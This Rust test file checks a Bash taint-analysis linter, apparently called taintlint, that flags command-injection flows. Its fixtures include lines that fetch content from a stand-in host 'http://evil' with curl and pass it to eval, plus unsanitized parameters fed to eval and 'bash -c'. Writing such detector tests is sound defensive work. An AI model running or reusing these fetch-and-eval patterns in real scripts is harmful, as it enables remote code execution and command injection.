use taintlint::bash_taint::{analyze_tree, command_injection_spec};
use taintlint::taint_engine::{NodeMatcher, TaintFinding, TaintSpec};
use taintlint::tree::{SyntaxNode, SyntaxTree};

fn add_nodes(cursor: &mut tree_sitter::TreeCursor<'_>, parent: Option<usize>, nodes: &mut Vec<SyntaxNode>) {
    let n = cursor.node();
    let index = nodes.len();
    nodes.push(SyntaxNode {
        kind: n.kind().to_string(),
        named: n.is_named(),
        field: cursor.field_name().map(|f| f.to_string()),
        start_byte: n.start_byte(),
        end_byte: n.end_byte(),
        start_row: n.start_position().row,
        start_column: n.start_position().column,
        end_row: n.end_position().row,
        end_column: n.end_position().column,
        parent,
        end: 0,
    });
    if cursor.goto_first_child() {
        loop {
            add_nodes(cursor, Some(index), nodes);
            if !cursor.goto_next_sibling() {
                break;
            }
        }
        cursor.goto_parent();
    }
    nodes[index].end = nodes.len();
}

fn parse(source: &str) -> SyntaxTree {
    let mut parser = tree_sitter::Parser::new();
    parser
        .set_language(&tree_sitter_bash::LANGUAGE.into())
        .expect("the grammar should load");
    let parsed = parser.parse(source, None).expect("the fixture should parse");
    let mut nodes = Vec::new();
    add_nodes(&mut parsed.walk(), None, &mut nodes);
    let tree = SyntaxTree { nodes };
    assert!(tree.check(source));
    tree
}


fn call(canonical: &str, desc: &str) -> NodeMatcher {
    NodeMatcher::Call {
        canonical: canonical.into(),
        description: desc.into(),
    }
}

fn run(src: &str, spec: &TaintSpec) -> Vec<TaintFinding> {
    let tree = parse(src);
    analyze_tree(tree.root_node(), src, spec, None)
}

fn curl_to_eval() -> TaintSpec {
    TaintSpec {
        sources: vec![call("curl", "$(curl ...)")],
        sinks: vec![call("eval", "eval")],
        sanitizers: vec![],
    }
}

#[test]
fn curl_substitution_to_eval_fires() {
    let src = r#"
out=$(curl http://evil)
eval "$out"
"#;
    let f = run(src, &curl_to_eval());
    assert_eq!(f.len(), 1, "curl -> eval must fire, got {:?}", f);
    assert!(f[0].sink_description.contains("eval"));
}

#[test]
fn curl_to_eval_inside_function_fires() {
    let src = r#"
g() {
  out=$(curl http://evil)
  eval "$out"
}
"#;
    let f = run(src, &curl_to_eval());
    assert_eq!(
        f.len(),
        1,
        "curl -> eval in function must fire, got {:?}",
        f
    );
}

#[test]
fn pipeline_jq_source_to_eval_fires() {
    let src = r#"
data=$(cat | jq -r '.x')
eval "$data"
"#;
    let spec = TaintSpec {
        sources: vec![call("jq", "$(... | jq ...)")],
        sinks: vec![call("eval", "eval")],
        sanitizers: vec![],
    };
    let f = run(src, &spec);
    assert_eq!(f.len(), 1, "jq pipeline -> eval must fire, got {:?}", f);
}

#[test]
fn bash_taint_clean_literal_no_finding() {
    let src = r#"
out="hello"
eval "$out"
"#;
    let f = run(src, &curl_to_eval());
    assert_eq!(f.len(), 0, "literal assignment must not fire");
}

#[test]
fn sanitizer_kills_taint() {
    let src = r#"
raw=$(curl http://evil)
safe=$(realpath "$raw")
eval "$safe"
"#;
    let spec = TaintSpec {
        sources: vec![call("curl", "$(curl ...)")],
        sinks: vec![call("eval", "eval")],
        sanitizers: vec![call("realpath", "realpath")],
    };
    let f = run(src, &spec);
    assert_eq!(
        f.len(),
        0,
        "realpath sanitizer must clear taint, got {:?}",
        f
    );
}

#[test]
fn untainted_variable_near_miss() {
    let src = r#"
out=$(curl http://evil)
safe="ls"
eval "$safe"
"#;
    let f = run(src, &curl_to_eval());
    assert_eq!(f.len(), 0, "eval of a clean variable must not fire");
}

// ── built-in command-injection spec ──────────────────────────────────

#[test]
fn positional_param_to_eval_fires() {
    let src = "eval \"$1\"\n";
    let f = run(src, &command_injection_spec());
    assert_eq!(f.len(), 1, "$1 -> eval must fire, got {:?}", f);
    assert!(f[0].source_description.contains("shell parameter"));
}

#[test]
fn special_param_at_to_bash_c_fires() {
    let src = "bash -c \"$@\"\n";
    let f = run(src, &command_injection_spec());
    assert_eq!(f.len(), 1, "$@ -> bash -c must fire, got {:?}", f);
    assert!(f[0].sink_description.contains("bash"));
}

#[test]
fn read_builtin_to_eval_fires() {
    let src = "read userinput\neval \"$userinput\"\n";
    let f = run(src, &command_injection_spec());
    assert_eq!(f.len(), 1, "read -> eval must fire, got {:?}", f);
    assert!(f[0].source_description.contains("read"));
}

#[test]
fn printf_q_sanitizer_kills_param_taint() {
    let src = "safe=$(printf '%q' \"$1\")\neval \"$safe\"\n";
    let f = run(src, &command_injection_spec());
    assert_eq!(f.len(), 0, "printf %q must sanitize, got {:?}", f);
}

#[test]
fn literal_command_no_finding() {
    let src = "eval \"ls -la\"\n";
    let f = run(src, &command_injection_spec());
    assert_eq!(f.len(), 0, "literal eval must not fire, got {:?}", f);
}
